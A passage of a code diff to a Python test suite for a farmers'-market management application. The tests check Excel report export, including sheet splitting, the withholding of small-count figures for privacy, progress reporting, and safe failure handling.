-    people = {r[col["Nombres"]].value: r for r in rows if r[0].value != "Total"}
-    assert people["Ana"][col["Joven"]].value == "Sí"
-    assert people["Beto"][col["Joven"]].value is None  # age not stated
-    assert people["Carla"][col["Joven"]].value == "No"
-    assert people["Carla"][col["Estado"]].value == "Suspendido"
-    assert people["Carla"][col["Jornadas asistidas"]].value == 0
-
-    headers, rows = table(wb["Cuotas"], "Código")
-    assert [(r[1].value, dec(r[4].value), dec(r[5].value)) for r in rows] == [
-        ("Prueba, Ana", Decimal("0.00"), Decimal("2.00")),
-        ("Prueba, Beto", Decimal("2.00"), Decimal("3.50")),
-        (None, Decimal("2.00"), Decimal("5.50")),
-    ]
-
+    assert {r[0].value: r[1].value for r in rows} == {"Otras 2 regiones": 2, "Total": 2}
     _headers, rows = table(wb["Por rubro"], "Rubro")
-    assert {r[0].value: dec(r[3].value) for r in rows} == {
-        "Gastronomía": Decimal("1334.71"),
-        "Hortalizas y verduras": Decimal("0"),  # Beto's main category: present, no sales
-        "Total": Decimal("1334.71"),
-    }
-    detail = [[c.value for c in r] for r in table(wb["Ventas (detalle)"], "Fecha")[1]]
-    assert {r[1] for r in detail} == {"Feria Norte"}
-    assert [r[6] for r in detail].count("Yape") == 1
-
-
-# ------------------------------------------------------------------ big listings, progress
-
-
-def test_listing_continues_on_new_sheets_past_the_row_limit(demo_session, tmp_path, monkeypatch):
-    monkeypatch.setattr(excel, "MAX_SHEET_ROWS", 4 + 2000)  # heading rows + 2,000 sales
-    path = tmp_path / "partido.xlsx"
-    result = excel.write_workbook(demo_session, *YEAR, path)
-    total = breakdowns.count_sales(demo_session, *YEAR)
-    assert result.sales_rows == total == 6501
-    detail = ["Ventas (detalle)", "Ventas (detalle 2)", "Ventas (detalle 3)", "Ventas (detalle 4)"]
-    assert result.sheets == SHEETS[:-1] + detail
-    wb = openpyxl.load_workbook(path, read_only=True)
-    assert wb.sheetnames == result.sheets
-    written = []
-    for title, expected_rows in zip(detail, (2000, 2000, 2000, 501), strict=True):
-        rows = list(wb[title].iter_rows(min_row=5, values_only=True))
-        assert len(rows) == expected_rows, title
-        assert 4 + len(rows) <= excel.MAX_SHEET_ROWS
-        written += [(r[0].date(), r[2], Decimal(str(r[7]))) for r in rows]
-    expected = [
-        (r.date, r.vendor_code, Decimal(r.amount) / 100)
-        for r in breakdowns.iter_sales(demo_session, *YEAR)
+    assert [(r[0].value, r[1].value, r[3].value) for r in rows] == [
+        ("Otros 2 rubros", 2, WITHHELD),
+        ("Total", 2, WITHHELD),
     ]
-    assert written == expected  # same rows, same order, across the sheets
-    wb.close()
+    texts = all_text(wb)
+    for kind, values in personal_data(session, complete=False).items():
+        assert not {v for v in values for t in texts if v in t}, kind
+
+
+def test_a_fair_of_six_shows_its_figures(session, hand_data, tmp_path):
+    """Add four vendors to Norte's 01/03: the day's figures rest on six people and appear."""
+    march = (dt.date(2026, 3, 1), dt.date(2026, 3, 31))
+    day = fairs.find_fair_day(session, hand_data["norte"], dt.date(2026, 3, 1))
+    fairs.reopen_fair_day(session, SYSTEM, day.id, reason="más ventas")
+    for n in range(4):
+        vendor = vendors.register(
+            session, SYSTEM,
+            {"given_names": f"Nuevo{n}", "surnames": "Prueba", "doc_number": f"4100000{n}",
+             "fair": hand_data["norte"], "registered_on": dt.date(2026, 1, 10),
+             "sex": "F" if n < 2 else "M", "birth_date": dt.date(1980, 1, 1),
+             "main_category": "Gastronomía"},
+            today=dt.date(2026, 3, 8),
+        )  # fmt: skip
+        sales.record_sale(session, SYSTEM, day.id, vendor.id, f"{10 + n}")
+    session.commit()
+    path = tmp_path / "norte.xlsx"
+    excel.write_workbook(session, *march, path, fair_id=hand_data["norte"], now=NOW)
+    s = stats.compute(session, *march, hand_data["norte"])
     wb = openpyxl.load_workbook(path)
-    assert wb["Ventas (detalle 2)"].auto_filter.ref == "A4:H2004"
-    assert wb["Ventas (detalle 4)"].auto_filter.ref == "A4:H505"
-    assert wb["Ventas (detalle 4)"]["A4"].value == "Fecha"
+    k = kpis(wb["Resumen"])
+    assert dec(k["Ventas totales"].value) == Decimal(s.to_json()["sales"]["total"])
+    assert k["Mujeres presentes"].value == s.vendors.by_sex["F"] == 3
+    assert k["Jóvenes presentes (15–29 años)"].value == WITHHELD  # Ana alone
+    headers, rows = table(wb["Por jornada"], "Fecha")
+    days = {r[0].value.date(): r for r in rows if r[0].value != "Total"}
+    first, second = days[dt.date(2026, 3, 1)], days[dt.date(2026, 3, 8)]
+    # the 08/03 (Ana alone) is withheld, and the 01/03 with it, as the total gives it back
+    for name in ("Expositores presentes", "Ventas"):
+        assert second[headers.index(name)].value == WITHHELD
+        assert first[headers.index(name)].value == WITHHELD
+    total = rows[-1]
+    assert total[headers.index("Expositores presentes")].value == s.vendors.attendances == 7
+    assert dec(total[headers.index("Ventas")].value) == Decimal(s.to_json()["sales"]["total"])
+    # no chart of sales per day that would draw the withheld days as days without sales;
+    # the chart by rubro starts its axis at zero
+    (chart,) = charts_in(path)
+    xml = read_xml(path, chart)
+    assert "'Por rubro'!" in xml and '<min val="0"' in xml
+
+
+# ------------------------------------------------------------------ progress, failures
 
 
 def test_progress_is_reported_up_to_the_total(demo_session, tmp_path):
     calls = []
-    result = excel.write_workbook(
+    excel.write_workbook(
         demo_session, *YEAR, tmp_path / "p.xlsx", progress=lambda d, t: calls.append((d, t))
     )
-    total = result.sales_rows
-    assert calls[0] == (0, total)
-    assert calls[-1] == (total, total)
-    assert len(calls) >= 3
-    assert all(t == total for _d, t in calls)
-    done = [d for d, _t in calls]
-    assert done == sorted(done)
-
-
-# ------------------------------------------------------------------ failures
+    assert calls == [(n, 5) for n in range(1, 6)]
 
 
 def test_missing_folder_raises_and_writes_nothing(demo_session, tmp_path):
@@ -690,7 +773,7 @@ def test_failure_midway_keeps_the_old_file_and_leaves_no_temporary_file(demo_ses
     target.write_bytes(b"the previous workbook")
 
     def fail(done: int, total: int) -> None:
-        if done >= 4000:
+        if done >= 3:
             raise RuntimeError("the user cancelled")
 
     with pytest.raises(RuntimeError, match="cancelled"):
@@ -711,11 +794,24 @@ def test_period_backwards_or_unknown_fair_is_refused(demo_session, tmp_path):
 
 
 def test_sheet_titles_are_valid_and_unique():
-    assert (
-        excel._sheet_title("Ventas: enero/febrero [2026]?", []) == "Ventas- enero-febrero -2026--"
-    )
-    assert len(excel._sheet_title("x" * 40, [])) == 31
-    assert excel._sheet_title("Resumen", ["resumen"]) == "Resumen 2"
+    from agroferia.reports.workbook.sheet import sheet_title
+
+    assert sheet_title("Ventas: enero/febrero [2026]?", []) == "Ventas- enero-febrero -2026--"
+    assert len(sheet_title("x" * 40, [])) == 31
+    assert sheet_title("Resumen", ["resumen"]) == "Resumen 2"
+
+
+def test_no_line_of_the_summary_is_wider_than_its_tables(book):
+    """Long notes wrap within the tables' width (a long line would stretch the page)."""
+    for ws in book.wb.worksheets:
+        merged = {str(r) for r in ws.merged_cells.ranges}
+        for (cell,) in ws.iter_rows(min_col=1, max_col=1):
+            if isinstance(cell.value, str) and len(cell.value) > 100:
+                assert any(re.match(rf"A{cell.row}:[A-Z]+{cell.row}$", m) for m in merged), (
+                    ws.title,
+                    cell.coordinate,
+                )
+                assert cell.alignment.wrap_text
 
 
 @pytest.mark.skipif(os.name != "posix", reason="POSIX permissions")
